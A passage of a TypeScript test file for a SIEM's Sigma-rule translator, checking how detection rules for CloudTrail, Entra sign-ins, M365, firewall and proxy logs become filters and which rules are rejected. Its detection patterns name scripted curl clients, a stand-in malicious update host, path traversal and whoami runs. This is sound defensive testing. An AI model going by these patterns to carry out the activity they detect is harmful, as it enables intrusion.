import { readFileSync } from "node:fs";
import { join } from "node:path";
import { SIGMA_SEMANTICS } from "../../../../../test/fixtures/siem/sigma-rules";
import { normalize, parseNdjson } from "../connectors/normalizers";
import type { ConnectorKind } from "../events/event.model";
import { compileFilterToPredicate, readEventField, type EventLike } from "./rule-filter";
import { validateRuleSpec } from "./rule-spec";
import { SIGMA_LIMITS, SigmaInputError, translateSigmaYaml, type SigmaImportOptions } from "./sigma";
import { mergeRuleParts } from "./sigma-collections";

/** YAML from an indented template literal: the template's common indentation removed, then the values put in. */
function y(strings: TemplateStringsArray, ...values: unknown[]): string {
  const lines = strings.join("\u0000").replace(/^\n/, "").replace(/\s+$/, "").split("\n");
  const indent = Math.min(...lines.filter((l) => l.trim()).map((l) => /^ */.exec(l)![0].length));
  let next = 0;
  return `${lines
    .map((l) => l.slice(indent))
    .join("\n")
    .replace(/\u0000/g, () => String(values[next++]))}\n`;
}

/** A rule's header: title, id and log source. */
const head = (logsource: string, id = "0b1e7a52-3c0d-4b6e-9f1a-2d3c4e5f6a7b") =>
  `title: Test rule\nid: ${id}\nlevel: medium\nlogsource:\n${logsource
    .split(", ")
    .map((part) => `  ${part}`)
    .join("\n")}\n`;
const CLOUDTRAIL = head("product: aws, service: cloudtrail");
const ACTIVITY = head("product: azure, service: activitylogs");
const SIGNINS = head("product: azure, service: signinlogs");
const M365 = head("product: m365, service: audit");
const FIREWALL = head("category: firewall");
const PROXY = head("category: proxy");

function one(yaml: string, options: SigmaImportOptions = {}) {
  const results = translateSigmaYaml(yaml, options);
  expect(results).toHaveLength(1);
  return results[0];
}

/** The filter of a rule that translates (failing with its problems otherwise). */
function filterOf(yaml: string, options: SigmaImportOptions = {}): unknown {
  const result = one(yaml, options);
  expect(result.problems).toEqual([]);
  return result.spec!.filter;
}

/** The problems of a rule that is rejected, as `code path: message` lines. */
function rejection(yaml: string, options: SigmaImportOptions = {}): string[] {
  const result = one(yaml, options);
  expect(result.spec).toBeNull();
  return result.problems.map((p) => `${p.code} ${p.path}: ${p.message}`);
}

const connector = (kind: ConnectorKind) => ({ field: "connector", op: "eq", value: kind });

describe("Sigma → filter: realistic rules", () => {
  const cases: Array<{ name: string; yaml: string; filter: unknown }> = [
    {
      name: "CloudTrail: trail stopped, updated or deleted (SigmaHQ aws_cloudtrail_disable_logging)",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection_source:
            eventSource: cloudtrail.amazonaws.com
            eventName:
              - StopLogging
              - UpdateTrail
              - DeleteTrail
          condition: selection_source
      `,
      filter: {
        all: [
          connector("AWS_CLOUDTRAIL"),
          { field: "attributes.event_source", op: "eq", value: "cloudtrail.amazonaws.com" },
          { field: "attributes.event_name", op: "in", value: ["StopLogging", "UpdateTrail", "DeleteTrail"] },
        ],
      },
    },
    {
      name: "CloudTrail: root activity from outside the corporate ranges, not AWS service events",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection:
            userIdentity.type: Root
          filter_internal:
            sourceIPAddress|cidr:
              - 10.0.0.0/8
              - 192.168.0.0/16
          filter_service:
            eventType: AwsServiceEvent
          condition: selection and not 1 of filter_*
      `,
      filter: {
        all: [
          connector("AWS_CLOUDTRAIL"),
          { field: "attributes.user_identity_type", op: "eq", value: "Root" },
          {
            not: {
              any: [
                { field: "src_ip", op: "inCidr", value: ["10.0.0.0/8", "192.168.0.0/16"] },
                { field: "attributes.event_type", op: "eq", value: "AwsServiceEvent" },
              ],
            },
          },
        ],
      },
    },
    {
      name: "CloudTrail: console login without MFA (raw responseElements / additionalEventData)",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection:
            eventName: ConsoleLogin
            responseElements.ConsoleLogin: Success
            additionalEventData.MFAUsed: 'No'
          condition: selection
      `,
      filter: {
        all: [
          connector("AWS_CLOUDTRAIL"),
          { field: "attributes.event_name", op: "eq", value: "ConsoleLogin" },
          { field: "attributes.response_elements.ConsoleLogin", op: "eq", value: "Success" },
          { field: "attributes.additional_event_data.MFAUsed", op: "eq", value: "No" },
        ],
      },
    },
    {
      name: "CloudTrail: an address, a host name, a whole-octet prefix and the ARN",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection_ip:
            sourceIPAddress:
              - 203.0.113.77
              - cloudtrail.amazonaws.com
          selection_prefix:
            sourceIPAddress|startswith: '192.0.2.'
          selection_arn:
            userIdentity.arn|contains: ':root'
          condition: 1 of selection_*
      `,
      filter: {
        all: [
          connector("AWS_CLOUDTRAIL"),
          {
            any: [
              { field: "src_ip", op: "eq", value: "203.0.113.77" },
              { field: "attributes.source_host", op: "eq", value: "cloudtrail.amazonaws.com" },
              { field: "src_ip", op: "inCidr", value: ["192.0.2.0/24"] },
              { field: "attributes.source_host", op: "startsWith", value: "192.0.2." },
              {
                all: [
                  { field: "actor_user", op: "startsWith", value: "arn:" },
                  { field: "actor_user", op: "contains", value: ":root" },
                ],
              },
            ],
          },
        ],
      },
    },
    {
      name: "CloudTrail: numbers and booleans of a raw request parameter match their text too",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection:
            eventName: AuthorizeSecurityGroupIngress
            requestParameters.ipPermissions.items.0.fromPort: 22
            readOnly: false
          condition: selection
      `,
      filter: {
        all: [
          connector("AWS_CLOUDTRAIL"),
          { field: "attributes.event_name", op: "eq", value: "AuthorizeSecurityGroupIngress" },
          {
            any: [
              {
                field: "attributes.request_parameters.ipPermissions.items.0.fromPort",
                op: "eq",
                value: "22",
              },
              { field: "attributes.request_parameters.ipPermissions.items.0.fromPort", op: "eq", value: 22 },
            ],
          },
          { field: "attributes.read_only", op: "eq", value: false },
        ],
      },
    },
    {
      name: "Azure Activity: Key Vault modified or deleted (SigmaHQ azure_keyvault_modified_or_deleted)",
      yaml: y`
        ${ACTIVITY}detection:
          selection:
            operationName:
              - MICROSOFT.KEYVAULT/VAULTS/WRITE
              - MICROSOFT.KEYVAULT/VAULTS/DELETE
              - MICROSOFT.KEYVAULT/VAULTS/DEPLOY/ACTION
              - MICROSOFT.KEYVAULT/VAULTS/ACCESSPOLICIES/WRITE
          condition: selection
      `,
      filter: {
        all: [
          connector("AZURE_ACTIVITY"),
          {
            field: "operation",
            op: "in",
            value: [
              "MICROSOFT.KEYVAULT/VAULTS/WRITE",
              "MICROSOFT.KEYVAULT/VAULTS/DELETE",
              "MICROSOFT.KEYVAULT/VAULTS/DEPLOY/ACTION",
              "MICROSOFT.KEYVAULT/VAULTS/ACCESSPOLICIES/WRITE",
            ],
          },
        ],
      },
    },
    {
      name: "Azure Activity: wildcards become startsWith / endsWith / a glob, Log Analytics spellings",
      yaml: y`
        ${ACTIVITY}detection:
          selection:
            OperationNameValue:
              - 'MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/*'
              - '*/DELETE'
              - 'Microsoft.Network/*/securityRules/write'
            ActivityStatusValue: Succeeded
          condition: selection
      `,
      filter: {
        all: [
          connector("AZURE_ACTIVITY"),
          {
            any: [
              { field: "operation", op: "startsWith", value: "MICROSOFT.INSIGHTS/DIAGNOSTICSETTINGS/" },
              { field: "operation", op: "endsWith", value: "/DELETE" },
              { field: "operation", op: "matches", value: "Microsoft.Network/*/securityRules/write" },
            ],
          },
          { field: "attributes.status_detail", op: "eq", value: "Succeeded" },
        ],
      },
    },
    {
      name: "Entra sign-ins: MFA interrupted (SigmaHQ azure_mfa_interrupted, 1 of selection_*)",
      yaml: y`
        ${SIGNINS}detection:
          selection_50074:
            ResultType: 50074
            ResultDescription|contains: 'Strong Auth required'
          selection_500121:
            ResultType: 500121
            ResultDescription|contains: 'Authentication failed during strong authentication request'
          condition: 1 of selection_*
      `,
      filter: {
        all: [
          connector("ENTRA_SIGNIN"),
          {
            any: [
              {
                all: [
                  { field: "attributes.error_code", op: "eq", value: 50074 },
                  { field: "attributes.failure_reason", op: "contains", value: "Strong Auth required" },
                ],
              },
              {
                all: [
                  { field: "attributes.error_code", op: "eq", value: 500121 },
                  {
                    field: "attributes.failure_reason",
                    op: "contains",
                    value: "Authentication failed during strong authentication request",
                  },
                ],
              },
            ],
          },
        ],
      },
    },
    {
      name: "Entra sign-ins: single-factor success, numeric text and a compliant-device boolean",
      yaml: y`
        ${SIGNINS}detection:
          selection:
            Status: Success
            AuthenticationRequirement: singleFactorAuthentication
            ResultType: '0'
          filter_compliant:
            DeviceDetail.isCompliant: 'true'
          condition: selection and not filter_compliant
      `,
      filter: {
        all: [
          connector("ENTRA_SIGNIN"),
          { field: "status", op: "eq", value: "Success" },
          { field: "attributes.authentication_requirement", op: "eq", value: "singleFactorAuthentication" },
          { field: "attributes.error_code", op: "eq", value: 0 },
          { not: { field: "attributes.device.is_compliant", op: "eq", value: true } },
        ],
      },
    },
    {
      name: "M365 audit: inbox rule that forwards mail (raw Parameters, exists, null)",
      yaml: y`
        ${M365}detection:
          selection:
            Operation:
              - New-InboxRule
              - Set-InboxRule
            Parameters.ForwardTo|exists: true
          filter_internal:
            ClientIP: null
          condition: selection and not filter_internal
      `,
      filter: {
        all: [
          connector("M365_AUDIT"),
          { field: "operation", op: "in", value: ["New-InboxRule", "Set-InboxRule"] },
          { field: "attributes.parameters.ForwardTo", op: "exists", value: true },
          // not (ClientIP is null): an address or the text of a non-address.
          {
            any: [
              { field: "src_ip", op: "exists", value: true },
              { field: "attributes.client_ip", op: "exists", value: true },
            ],
          },
        ],
      },
    },
    {
      name: "Firewall: management ports allowed in (class 4001 of CEF), ports as numbers",
      yaml: y`
        ${FIREWALL}detection:
          selection:
            dst_port:
              - 22
              - '3389'
            action|contains|all:
              - all
              - ow
          condition: selection
      `,
      filter: {
        all: [
          connector("SYSLOG_CEF"),
          { field: "class_uid", op: "eq", value: 4001 },
          { field: "dst_port", op: "in", value: [22, 3389] },
          { field: "attributes.disposition", op: "contains", value: "all" },
          { field: "attributes.disposition", op: "contains", value: "ow" },
        ],
      },
    },
    {
      name: "Proxy: scripted clients, escaped wildcards and a regex of literal text and .*",
      yaml: y`
        ${PROXY}detection:
          selection_agent:
            c-useragent|startswith:
              - 'python-requests/'
              - 'curl/'
          selection_uri:
            c-uri|re|i: '^https://malicious-updates\\.example/.*/check'
          selection_literal:
            c-uri:
              - 'https://example.test/\\*'
              - 'https://example.test/a\\?b'
          condition: selection_agent or selection_literal or selection_uri
      `,
      filter: {
        all: [
          connector("SYSLOG_CEF"),
          { field: "class_uid", op: "eq", value: 4002 },
          {
            any: [
              { field: "attributes.user_agent", op: "startsWith", value: "python-requests/" },
              { field: "attributes.user_agent", op: "startsWith", value: "curl/" },
              {
                field: "attributes.url",
                op: "in",
                value: ["https://example.test/*", "https://example.test/a?b"],
              },
              { field: "attributes.url", op: "matches", value: "https://malicious-updates.example/*/check*" },
            ],
          },
        ],
      },
    },
    {
      name: "neq, numeric comparison, an empty value and a lone * (present)",
      yaml: y`
        ${SIGNINS}detection:
          selection:
            ResultType|gte: 50000
            AppDisplayName|neq:
              - Microsoft Teams
              - OfficeHome
            UserAgent: '*'
            ConditionalAccessStatus: ''
          condition: selection
      `,
      filter: {
        all: [
          connector("ENTRA_SIGNIN"),
          { field: "attributes.error_code", op: "gte", value: 50000 },
          { not: { field: "attributes.app", op: "in", value: ["Microsoft Teams", "OfficeHome"] } },
          { field: "attributes.user_agent", op: "exists", value: true },
          { not: { field: "attributes.conditional_access_status", op: "exists", value: true } },
        ],
      },
    },
    {
      name: "a condition list is an OR; all of them skips _ identifiers; parentheses and not",
      yaml: y`
        ${ACTIVITY}detection:
          a:
            operationName: X
          b:
            caller: Y
          _helper:
            caller: Z
          condition:
            - all of them
            - not (a or _helper)
      `,
      filter: {
        all: [
          connector("AZURE_ACTIVITY"),
          {
            any: [
              {
                all: [
                  { field: "operation", op: "eq", value: "X" },
                  { field: "actor_user", op: "eq", value: "Y" },
                ],
              },
              {
                not: {
                  any: [
                    { field: "operation", op: "eq", value: "X" },
                    { field: "actor_user", op: "eq", value: "Z" },
                  ],
                },
              },
            ],
          },
        ],
      },
    },
  ];

  for (const { name, yaml, filter } of cases) {
    it(name, () => {
      expect(filterOf(yaml)).toEqual(filter);
    });
  }
});

describe("Sigma → rule: metadata, aggregation and options", () => {
  const stopLogging = y`
    title: AWS CloudTrail Important Change
    id: 4DB60CC0-36FB-42B7-9B58-A5B53019FB74
    status: test
    description: Detects disabling, deleting and updating of a Trail
    references:
      - https://docs.aws.amazon.com/awscloudtrail/latest/userguide/best-practices-security.html
    author: vitaliy0x1
    date: 2020/01/21
    tags:
      - attack.defense_evasion
      - attack.t1562.001
      - attack.TA0005
      - attack.g0016
      - cve.2021-44228
    logsource:
      product: aws
      service: cloudtrail
    detection:
      selection_source:
        eventSource: cloudtrail.amazonaws.com
        eventName: StopLogging
      condition: selection_source
    falsepositives:
      - Valid change in a Trail
    level: medium
  `;

  it("takes title, description, false positives, references, level and ATT&CK tags; starts disabled, scheduled every 5 minutes", () => {
    const result = one(stopLogging);
    expect(result.sigmaId).toBe("4db60cc0-36fb-42b7-9b58-a5b53019fb74");
    expect(result.notes).toEqual([]);
    expect(result.spec).toEqual({
      kind: "SCHEDULED",
      displayName: "AWS CloudTrail Important Change",
      description: [
        "Detects disabling, deleting and updating of a Trail",
        "False positives:\n- Valid change in a Trail",
        "References:\n- https://docs.aws.amazon.com/awscloudtrail/latest/userguide/best-practices-security.html",
        "Imported from Sigma rule 4db60cc0-36fb-42b7-9b58-a5b53019fb74 (status test, by vitaliy0x1).",
      ].join("\n\n"),
      severity: "MEDIUM",
      enabled: false,
      filter: {
        all: [
          connector("AWS_CLOUDTRAIL"),
          { field: "attributes.event_source", op: "eq", value: "cloudtrail.amazonaws.com" },
          { field: "attributes.event_name", op: "eq", value: "StopLogging" },
        ],
      },
      queryFrequency: "PT5M",
      queryPeriod: "PT5M",
      tactics: ["DefenseEvasion"],
      techniques: ["T1562.001"],
      entityMappings: [
        { entityType: "ACCOUNT", field: "actor_user" },
        { entityType: "IP", field: "src_ip" },
        { entityType: "RESOURCE", field: "resource_id" },
        { entityType: "HOST", field: "device" },
      ],
      alertPerResult: true,
    });
  });

  it("maps each Sigma level, critical to HIGH (with a note) and a missing level to MEDIUM", () => {
    const level = (value: string | null) =>
      one(stopLogging.replace("level: medium", value === null ? "" : `level: ${value}`));
    expect(
      ["informational", "low", "medium", "high", "critical"].map((l) => level(l).spec!.severity),
    ).toEqual(["INFORMATIONAL", "LOW", "MEDIUM", "HIGH", "HIGH"]);
    expect(level("critical").notes).toEqual([
      "Sigma level critical is severity HIGH (the highest a rule has).",
    ]);
    expect(level(null).spec!.severity).toBe("MEDIUM");
    expect(level(null).notes).toEqual(["The rule has no level: severity MEDIUM."]);
  });

  it("reads tactics by tag name (either spelling) and by id, techniques and sub-techniques, and notes unknown ATT&CK tags", () => {
    const result = one(
      stopLogging.replace(
        /tags:[\s\S]*?logsource/,
        "tags:\n  - attack.initial-access\n  - attack.credential_access\n  - attack.ta0040\n  - attack.t1078\n  - attack.t1078.004\n  - attack.t1078\n  - attack.s0002\n  - attack.lateral_move\nlogsource",
      ),
    );
    expect(result.spec).toMatchObject({
      tactics: ["InitialAccess", "CredentialAccess", "Impact"],
      techniques: ["T1078", "T1078.004"],
    });
    expect(result.notes).toEqual([
      "Tag attack.lateral_move is not an ATT&CK tactic or technique Rampart knows; it was left out.",
    ]);
  });

  it("options choose NRT, enabled, another schedule and one alert per run", () => {
    expect(one(stopLogging, { kind: "NRT", enabled: true, alertPerResult: false }).spec).toMatchObject({
      kind: "NRT",
      enabled: true,
      alertPerResult: false,
    });
    const nrt = one(stopLogging, { kind: "NRT" }).spec!;
    expect(nrt.queryFrequency).toBeUndefined();
    expect(nrt.queryPeriod).toBeUndefined();
    expect(one(stopLogging, { queryFrequency: "PT15M", queryPeriod: "PT1H" }).spec).toMatchObject({
      queryFrequency: "PT15M",
      queryPeriod: "PT1H",
    });
  });

  it("takes a frequency given alone as the period too", () => {
    expect(one(stopLogging, { queryFrequency: "PT30M" }).spec).toMatchObject({
      queryFrequency: "PT30M",
      queryPeriod: "PT30M",
    });
  });

  it("takes a case-sensitive regular expression without letters (case cannot matter there)", () => {
    expect(
      filterOf(y`
        ${PROXY}detection:
          selection:
            c-uri|re: '\\.\\./\\.\\./'
          condition: selection
      `),
    ).toEqual({
      all: [
        connector("SYSLOG_CEF"),
        { field: "class_uid", op: "eq", value: 4002 },
        { field: "attributes.url", op: "contains", value: "../../" },
      ],
    });
  });

  it("keeps a long title to 256 characters and the description to 5,000", () => {
    const result = one(
      stopLogging
        .replace("title: AWS CloudTrail Important Change", `title: ${"T".repeat(300)}`)
        .replace(/description: .*/, `description: ${"d".repeat(6000)}`),
    );
    expect([...result.spec!.displayName]).toHaveLength(256);
    expect(result.spec!.displayName.endsWith("…")).toBe(true);
    expect([...result.spec!.description]).toHaveLength(5000);
  });

  const spray = y`
    title: MFA failures for one account from many IP addresses
    id: 9a0c4b8e-2f1d-4e3a-8b7c-6d5e4f3a2b1c
    tags:
      - attack.credential_access
      - attack.t1110.003
    logsource:
      product: azure
      service: signinlogs
    detection:
      selection:
        ResultType:
          - 50074
          - 500121
          - 50126
      timeframe: 1h
      condition: selection | count(IPAddress) by UserPrincipalName > 2
    level: high
  `;

  it("turns count(field) by field > n with a timeframe into a distinct count per group over that period", () => {
    const result = one(spray);
    expect(result.problems).toEqual([]);
    expect(result.spec).toMatchObject({
      kind: "SCHEDULED",
      filter: {
        all: [
          connector("ENTRA_SIGNIN"),
          { field: "attributes.error_code", op: "in", value: [50074, 500121, 50126] },
        ],
      },
      summarize: { by: ["attributes.user.email_addr"], aggregate: "DISTINCT_COUNT", field: "src_ip" },
      trigger: { operator: "GT", threshold: 2 },
      queryFrequency: "PT1H",
      queryPeriod: "PT1H",
      entityMappings: [{ entityType: "ACCOUNT", field: "attributes.user.email_addr" }],
      tactics: ["CredentialAccess"],
      techniques: ["T1110.003"],
    });
  });

  it("turns count() by an address >= n into a count per group; without a timeframe it notes the default window", () => {
    const result = one(
      spray
        .replace("  timeframe: 1h\n", "")
        .replace("count(IPAddress) by UserPrincipalName > 2", "count() by IPAddress >= 10"),
    );
    expect(result.spec).toMatchObject({
      summarize: { by: ["src_ip"], aggregate: "COUNT" },
      trigger: { operator: "GTE", threshold: 10 },
      queryFrequency: "PT5M",
      queryPeriod: "PT5M",
      entityMappings: [{ entityType: "IP", field: "src_ip" }],
    });
    expect(result.notes).toEqual(["The aggregation has no timeframe: it counts over each PT5M window."]);
  });

  it("with slidingWindow, counts an aggregation over a sliding window of its timeframe; a < comparison cannot slide", () => {
    expect(one(spray, { slidingWindow: true }).spec).toMatchObject({
      summarize: {
        by: ["attributes.user.email_addr"],
        aggregate: "DISTINCT_COUNT",
        field: "src_ip",
        window: "PT1H",
      },
      trigger: { operator: "GT", threshold: 2 },
      queryFrequency: "PT1H",
      queryPeriod: "PT1H",
    });
    const fewer = one(spray.replace("> 2", "< 2"), { slidingWindow: true });
    expect(fewer.spec).toBeNull();
    expect(fewer.problems.map((p) => `${p.code} ${p.path}`)).toEqual(["INVALID_RULE trigger.operator"]);
  });

  it("infers entities from the fields a rule uses, after the source's own", () => {
    const result = one(y`
      ${SIGNINS}detection:
        selection:
          UserPrincipalName|endswith: '@contoso.com'
          DeviceDetail.displayName: 'LT-MEGAN-01'
        condition: selection
    `);
    expect(result.spec!.entityMappings).toEqual([
      { entityType: "ACCOUNT", field: "actor_user" },
      { entityType: "IP", field: "src_ip" },
      { entityType: "HOST", field: "device" },
      { entityType: "ACCOUNT", field: "attributes.user.email_addr" },
    ]);
  });
});

describe("Sigma → rejection, with a reason naming what cannot be evaluated", () => {
  const cases: Array<{ name: string; yaml: string; options?: SigmaImportOptions; problems: string[] }> = [
    {
      name: "a log source no connector ingests",
      yaml: y`
        ${head("category: process_creation, product: linux")}detection:
          selection:
            Image|endswith: '/whoami'
          condition: selection
      `,
      problems: [
        expect.stringMatching(
          /^UNSUPPORTED_LOGSOURCE logsource: no connector ingests this log source \(product: linux, category: process_creation\); supported: product: aws, service: cloudtrail; product: azure, service: activitylogs; .*; product: windows, category: process_creation; product: windows, service: sysmon; .*; product: windows, category: dns_query; product: windows, category: wmi_event; .*; product: windows, category: sysmon_error$/,
        ),
      ],
    },
    {
      name: "a field our CloudTrail events do not keep",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection:
            eventName: ConsoleLogin
            tlsDetails.tlsVersion: TLSv1
          condition: selection
      `,
      problems: [
        expect.stringMatching(
          /^UNSUPPORTED_FIELD detection\.selection\.tlsDetails\.tlsVersion: field tlsDetails\.tlsVersion is not kept for aws\/cloudtrail events \(known fields: eventName, eventSource, /,
        ),
      ],
    },
    {
      name: "windash on a field that is not text, encoding modifiers, and a modifier Sigma does not have",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection:
            sourceIPAddress|windash: '-enc'
            eventName|base64offset|contains: 'Stop'
            errorCode|fuzzy: x
          condition: selection
      `,
      problems: [
        "UNSUPPORTED_MODIFIER detection.selection.sourceIPAddress|windash: |windash applies to text; sourceIPAddress is not text",
        "UNSUPPORTED_MODIFIER detection.selection.eventName|base64offset|contains: |base64offset is not supported: encoded values are not supported",
        "UNSUPPORTED_MODIFIER detection.selection.errorCode|fuzzy: |fuzzy is not a Sigma modifier Rampart supports",
      ],
    },
    {
      name: "case-sensitive matching, placeholders and field references",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection:
            eventName|cased: StopLogging
            userAgent|expand: '%Admins%'
            userIdentity.userName|fieldref: requestParameters.userName
          condition: selection
      `,
      problems: [
        "UNSUPPORTED_MODIFIER detection.selection.eventName|cased: |cased is not supported: case-sensitive matching is not supported (text is compared without case, Sigma's default)",
        "UNSUPPORTED_MODIFIER detection.selection.userAgent|expand: |expand is not supported: placeholders (%name%) are not supported",
        "UNSUPPORTED_MODIFIER detection.selection.userIdentity.userName|fieldref: |fieldref is not supported: comparing one field with another is not supported",
      ],
    },
    {
      name: "the single-character wildcard ?",
      yaml: y`
        ${ACTIVITY}detection:
          selection:
            operationName: 'Microsoft.Compute/virtualMachines/?/action'
          condition: selection
      `,
      problems: [
        'UNSUPPORTED_VALUE detection.selection.operationName: the single-character wildcard ? in "Microsoft.Compute/virtualMachines/?/action" has no equivalent here (write \\? for a literal ?)',
      ],
    },
    {
      name: "a literal * next to a wildcard",
      yaml: y`
        ${ACTIVITY}detection:
          selection:
            operationName: 'a\\*b*c*d'
          condition: selection
      `,
      problems: [
        'UNSUPPORTED_VALUE detection.selection.operationName: "a\\\\*b*c*d" mixes a literal * with wildcards, which a glob cannot tell apart',
      ],
    },
    {
      name: "regular expressions that are more than literal text and .*, or case-sensitive with letters",
      yaml: y`
        ${PROXY}detection:
          selection:
            c-uri|re: '^https?://'
            c-useragent|re: 'curl/'
            cs-method|re|i: '^(GET|POST)$'
            c-uri|re|i: '\\d+'
          condition: selection
      `,
      problems: [
        'UNSUPPORTED_VALUE detection.selection.c-uri|re: the regular expression "^https?://" uses ?; only literal text, .* and ^/$ anchors translate (or use plain values with * wildcards)',
        'UNSUPPORTED_VALUE detection.selection.c-useragent|re: the regular expression "curl/" is case-sensitive (add |i: text is compared without case here); only literal text, .* and ^/$ anchors translate (or use plain values with * wildcards)',
        'UNSUPPORTED_VALUE detection.selection.cs-method|re|i: the regular expression "^(GET|POST)$" uses (; only literal text, .* and ^/$ anchors translate (or use plain values with * wildcards)',
        'UNSUPPORTED_VALUE detection.selection.c-uri|re|i: the regular expression "\\\\d+" uses the class or escape \\d; only literal text, .* and ^/$ anchors translate (or use plain values with * wildcards)',
      ],
    },
    {
      name: "keyword (full-text) search",
      yaml: y`
        ${ACTIVITY}detection:
          keywords:
            - Microsoft.Authorization/roleAssignments/write
          condition: keywords
      `,
      problems: [
        "UNSUPPORTED_DETECTION detection.keywords: keyword (full-text) search over the whole event is not supported: match named fields instead",
      ],
    },
    {
      name: "text patterns and regexes on an IP address field, a network that is not one",
      yaml: y`
        ${SIGNINS}detection:
          selection:
            IPAddress|contains: '203.0'
            IPAddress|endswith: '.77'
            IPAddress|cidr: 10.0.0.0/33
            IPAddress: not-an-address
          condition: selection
      `,
      problems: [
        'UNSUPPORTED_VALUE detection.selection.IPAddress|contains: IPAddress holds IP addresses: use an address, a whole-octet prefix such as 10.1.* or |cidr (got "203.0")',
        'UNSUPPORTED_VALUE detection.selection.IPAddress|endswith: IPAddress holds IP addresses: use an address, a whole-octet prefix such as 10.1.* or |cidr (got ".77")',
        'UNSUPPORTED_VALUE detection.selection.IPAddress|cidr: |cidr takes an IPv4 or IPv6 network such as 10.0.0.0/8 (got "10.0.0.0/33")',
        'UNSUPPORTED_VALUE detection.selection.IPAddress: IPAddress holds IP addresses; "not-an-address" is not one',
      ],
    },
    {
      name: "numeric comparisons on text, text on numbers and booleans",
      yaml: y`
        ${SIGNINS}detection:
          selection:
            AppDisplayName|gt: 5
            ResultType|startswith: '500'
            ResultType: abc
            IsInteractive: maybe
          condition: selection
      `,
      problems: [
        "UNSUPPORTED_MODIFIER detection.selection.AppDisplayName|gt: |gt compares numbers; AppDisplayName is not numeric",
        "UNSUPPORTED_MODIFIER detection.selection.ResultType|startswith: ResultType is numeric: text matching does not apply to it",
        'UNSUPPORTED_VALUE detection.selection.ResultType: ResultType is numeric; "abc" is not a number',
        'UNSUPPORTED_VALUE detection.selection.IsInteractive: IsInteractive is true or false (got "maybe")',
      ],
    },
    {
      name: "missing title, id, logsource and detection",
      yaml: "description: nothing else\n",
      problems: [
        "MISSING_FIELD title: is required",
        "MISSING_FIELD id: is required: rules are imported by their id (a UUID), so importing the rule again updates it",
        "MISSING_FIELD logsource: is required",
        "MISSING_FIELD detection: is required",
      ],
    },
    {
      name: "a detection without a condition",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection:
            eventName: StopLogging
      `,
      problems: ["MISSING_FIELD detection.condition: is required"],
    },
    {
      name: "an unknown search identifier, an unclosed parenthesis, 2 of, near, a pattern that matches nothing",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection:
            eventName: StopLogging
          condition:
            - selection and filter
            - (selection
            - 2 of selection*
            - near selection
            - 1 of filter_*
      `,
      problems: [
        'INVALID_CONDITION detection.condition[0]: "filter" is not a search identifier of the detection',
        "INVALID_CONDITION detection.condition[1]: a ( is not closed",
        'UNSUPPORTED_CONDITION detection.condition[2]: "2 of" is not supported (only "1 of" and "all of")',
        "UNSUPPORTED_CONDITION detection.condition[3]: near (temporal proximity) is not supported",
        'INVALID_CONDITION detection.condition[4]: "filter_*" matches no search identifier',
      ],
    },
    {
      name: "an aggregation other than count",
      yaml: y`
        ${CLOUDTRAIL}detection:
          selection:
            eventName: StopLogging
          condition: 1 of sel* | sum(bytes) by userIdentity.arn > 10
      `,
      problems: [
        "UNSUPPORTED_CONDITION detection.condition: only count() aggregations are supported (got sum())",
      ],
    },
    {
      name: "an aggregation asked to run as NRT",
      yaml: y`
        ${SIGNINS}detection:
          selection:
            ResultType: 50126
          condition: selection | count() by IPAddress > 10
      `,
      options: { kind: "NRT" },
      problems: [
        "UNSUPPORTED_CONDITION detection.condition: an aggregation (| count() …) counts events over a period, so it needs a SCHEDULED rule, not NRT",
      ],
    },
    {
      name: "a timeframe shorter than the shortest query period",
      yaml: y`
        ${SIGNINS}detection:
          selection:
            ResultType: 50126
          timeframe: 1m
          condition: selection | count() by IPAddress > 10
      `,
      problems: [
        "UNSUPPORTED_CONDITION detection.timeframe: must be between 5 minutes and 14 days, the query periods a rule can have (got 1m)",
      ],
    },
    {
      name: "neq with all (different from every value, or from one?)",
      yaml: y`
        ${ACTIVITY}detection:
          selection:
            caller|neq|all: [a, b]
          condition: selection
      `,
      problems: [
        "UNSUPPORTED_MODIFIER detection.selection.caller|neq|all: the modifiers |neq|all cannot be combined",
      ],
    },
    {
      name: "an unsupported status, another taxonomy",
      yaml: y`
        ${CLOUDTRAIL}status: unsupported
        taxonomy: ocsf
        detection:
          selection:
            eventName: StopLogging
          condition: selection
      `,
      problems: [
        "UNSUPPORTED_RULE_TYPE status: the rule says it cannot be used as it is (status: unsupported)",
        'UNSUPPORTED_RULE_TYPE taxonomy: only the default sigma taxonomy is supported (got "ocsf")',
      ],
    },
    {
      name: "a level that is not a Sigma level, tags that are not a list, an id with spaces",
      yaml: y`
        title: Odd
        id: not a valid id
        level: severe
        tags: attack.t1110
        logsource:
          product: aws
          service: cloudtrail
        detection:
          selection:
            eventName: StopLogging
          condition: selection
      `,
      problems: [
        `INVALID_FIELD id: must be a UUID or a name of letters, digits, '.', '_', ':' and '-' of at most 128 characters (got "not a valid id")`,
        'INVALID_FIELD level: must be one of informational, low, medium, high, critical (got "severe")',
        'INVALID_FIELD tags: must be a list of strings (got "attack.t1110")',
      ],
    },
    {
      name: "a rule that translates to more conditions than a filter takes",
      yaml: `${CLOUDTRAIL}detection:\n  selection:\n    userAgent|contains:\n${Array.from({ length: 250 }, (_, i) => `      - agent-${i}`).join("\n")}\n  condition: selection\n`,
      problems: [
        "INVALID_RULE detection: the translated filter is not valid: a filter has at most 200 nodes",
      ],
    },
  ];

  for (const { name, yaml, options, problems } of cases) {
    it(name, () => {
      expect(rejection(yaml, options)).toEqual(problems);
    });
  }
});

describe("Sigma → Windows process creation (Sysmon event 1 semantics over 4688 records)", () => {
  const PROCESS_CREATION = head("category: process_creation, product: windows");

  /** A 4688 record (version 2: Windows 10 and later) of `image` started with `cmd` by CORP\adele.vance. */
  function created(image: string, cmd: string, data: Record<string, unknown> = {}, version = 2): EventLike {
    const event = normalize("WINDOWS_SECURITY", {
      EventID: 4688,
      Version: version,
      TimeCreated: { SystemTime: "2026-11-20T09:00:00.000Z" },
      EventRecordID: 7,
      Channel: "Security",
      Computer: "WS-7.corp.contoso.com",
      EventData: {
